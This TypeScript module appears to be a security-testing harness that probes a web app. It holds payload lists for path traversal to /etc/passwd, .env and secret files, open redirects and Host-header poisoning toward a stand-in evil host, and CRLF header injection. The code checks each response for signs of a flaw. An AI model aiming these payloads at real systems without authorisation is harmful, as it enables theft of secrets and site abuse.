import type { Attempt, Received, Target } from "./target.ts";
import { attempt, authorise, call, choose, EVIL_HOST, sendRaw, toForm } from "./target.ts";

const PARENT_SEGMENTS =
  "../ %2e%2e/ ..%2f %2e%2e%2f ..%5c ..\\ %252e%252e%252f ..%252f %c0%ae%c0%ae/ ..%c0%af ....// ..;/ %uff0e%uff0e/ .%00./".split(" ");
const START_PATHS = ["/uploads/", "/uploads/00/", "/_next/static/", "/_next/", "/images/", "/api/", "/product/", "/"];
const FILES = ["etc/passwd", "nextauth-secret", "package.json", "postgres/postgresql.conf", ".env"];
const SECRET_PATHS = `
  /.env /.git/config /package.json /prisma/schema.prisma /nextauth-secret /data/nextauth-secret /uploads/ /trash/ /.next/BUILD_ID
  /_next/image?url=%2fetc%2fpasswd&w=640&q=75 /_next/image?url=http%3A%2F%2F127.0.0.1%2F&w=640&q=75 /server.js /proc/self/environ
`
  .trim()
  .split(/\s+/);

export async function* tryPathTraversal(target: Target): AsyncGenerator<Attempt> {
  const paths = choose(target, START_PATHS, 4).flatMap((start) =>
    choose(target, PARENT_SEGMENTS, 6).flatMap((parent, index) =>
      [3, 9].map((depth) => start + parent.repeat(depth) + FILES[(index + depth) % FILES.length]),
    ),
  );
  for (const path of [...paths, ...SECRET_PATHS]) {
    const { status, body } = await call(target, "GET", path);
    const isRead = status === 200 || /root:.*:0:0|"dependencies"|DATABASE_URL|listen_addresses/.test(body) || body.includes(target.secret);
    yield attempt(`GET ${path}`, isRead && `answered ${status}`);
  }
}

const REDIRECT_PATHS = `
  //${EVIL_HOST} //${EVIL_HOST}/ //${EVIL_HOST}/%2e%2e/ ///${EVIL_HOST}/ /\\${EVIL_HOST} /\\${EVIL_HOST}/ /%5c${EVIL_HOST}/ /%5C%5C${EVIL_HOST}/ /%2f%2f${EVIL_HOST}/ /%2f${EVIL_HOST}/
  /%09/${EVIL_HOST}/ /.${EVIL_HOST}/ /@${EVIL_HOST}/ /https:${EVIL_HOST}/ /https://${EVIL_HOST}/ /en//${EVIL_HOST} /en//${EVIL_HOST}/ /en/%2f${EVIL_HOST} /en/\\${EVIL_HOST}
  /en/%5c${EVIL_HOST} /en/https://${EVIL_HOST}/ /about//${EVIL_HOST}/ /product/..//${EVIL_HOST}/ /gallery/?//${EVIL_HOST} /gallery/?next=//${EVIL_HOST}
  /gallery/%2f%2f${EVIL_HOST}/ /product?category=//${EVIL_HOST} /admin/?from=//${EVIL_HOST} /unavailable?path=//${EVIL_HOST} /unavailable?path=/\\${EVIL_HOST}
  /unavailable?path=javascript:alert(1) http://${EVIL_HOST}/ http://${EVIL_HOST}/about/
`
  .trim()
  .split(/\s+/);

export async function* tryRedirects(target: Target): AsyncGenerator<Attempt> {
  const ownOrigin = new URL(target.site).origin;
  for (const path of REDIRECT_PATHS) {
    const { headers, body } = await call(target, "GET", path, { headers: { Accept: "text/html" } });
    const location = headers.location ?? headers.refresh?.toString().replace(/^.*url=/, "");
    const redirects = location !== undefined && new URL(location, `${ownOrigin}/`).origin !== ownOrigin;
    const links = /<a [^>]*href="(?:javascript:|(?:https?:)?(?:\/\/|\/\\)evil)/i.test(body);
    yield attempt(`GET ${path}`, (redirects || links) && `sent to ${location ?? "a link"}`);
  }
}

const HOST_HEADERS = `
  X-Forwarded-Host X-Forwarded-Server X-Host X-Original-Host X-HTTP-Host-Override X-Original-URL X-Rewrite-URL X-Forwarded-Prefix
  X-Forwarded-Scheme Forwarded Origin Referer
`
  .trim()
  .split(/\s+/);
const PAGES = "/ /about/ /gallery/ /product /en /sitemap.xml /robots.txt /admin /manifest.webmanifest /nothing-here".split(" ");

export async function* tryHostPoisoning(target: Target): AsyncGenerator<Attempt> {
  for (const page of choose(target, PAGES, 4)) {
    for (const headers of [
      { Host: EVIL_HOST },
      { Host: `${EVIL_HOST}:80` },
      ...HOST_HEADERS.map((name) => ({ [name]: name === "Forwarded" ? `host=${EVIL_HOST}` : `https://${EVIL_HOST}` })),
      ...HOST_HEADERS.slice(0, 5).map((name) => ({ [name]: EVIL_HOST })),
    ]) {
      const response = await call(target, "GET", page, { headers: { Accept: "text/html", ...headers } });
      const isRepeated = response.body.includes(EVIL_HOST) || JSON.stringify(response.headers).includes(EVIL_HOST);
      yield attempt(`GET ${page} with ${JSON.stringify(headers)}`, isRepeated && "repeated it");
    }
  }
  const malformed = [
    "",
    "Host: \r\n",
    "Host: a b\r\n",
    `Host: own.example\r\nHost: ${EVIL_HOST}\r\n`,
    "Host: user@own.example\r\n",
    "Host: own.example/path\r\n",
    "Host: <script>\r\n",
    `Host: own.example, ${EVIL_HOST}\r\n`,
  ];
  for (const host of malformed) {
    const { text } = await sendRaw(target, [`GET / HTTP/1.1\r\n${host}Connection: close\r\n\r\n`]);
    yield attempt(`GET / with ${JSON.stringify(host)}`, !text.startsWith("HTTP/1.1 400") && text.slice(0, 20));
  }
  const { text } = await sendRaw(target, [`GET http://${EVIL_HOST}/ HTTP/1.1\r\nHost: ${EVIL_HOST}\r\nConnection: close\r\n\r\n`]);
  yield attempt("an absolute URL instead of a path", text.includes(EVIL_HOST) && "repeated it");
}

const LINE_BREAKS = ["%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "\r\n", "%250d%250a", "%u000a"];
const INJECTION_POINTS =
  "/product?category= /product/ /gallery/?next= /en/ /about/?x= /unavailable?path=/ /uploads/00/ /api/main-category/".split(" ");

export async function* tryHeaderInjection(target: Target): AsyncGenerator<Attempt> {
  const lines = choose(target, LINE_BREAKS, 3).map((line) => `${line}X-Hit:1${line}Set-Cookie:hit=1`);
  for (const start of INJECTION_POINTS) {
    for (const line of lines) {
      const path = `${start}1${line.replace(/[\r\n]/g, (letter) => encodeURIComponent(letter))}`;
      yield checkHeaders(`GET ${path}`, await call(target, "GET", path, { headers: { Accept: "text/html" } }));
    }
  }
  const names = ["a\r\nX-Hit: 1.pdf", "a\";filename*=UTF-8''x.html", "a.pdf\u0000.html"];
  for (const name of choose(target, names)) {
    const pdf = [new Blob(["%PDF-1.4\n%%EOF"], { type: "application/pdf" }), name] as [Blob, string];
    const body = toForm({ title: "A name with a line break", pdf_file: pdf });
    const response = await call(target, "POST", "/api/ebrochure", { headers: authorise(target), body });
    yield checkHeaders(`a file named ${JSON.stringify(name)}`, response);
  }
}

const checkHeaders = (what: string, { headers }: Received) =>
  attempt(what, (headers["x-hit"] || headers["set-cookie"]) !== undefined && "wrote a header");
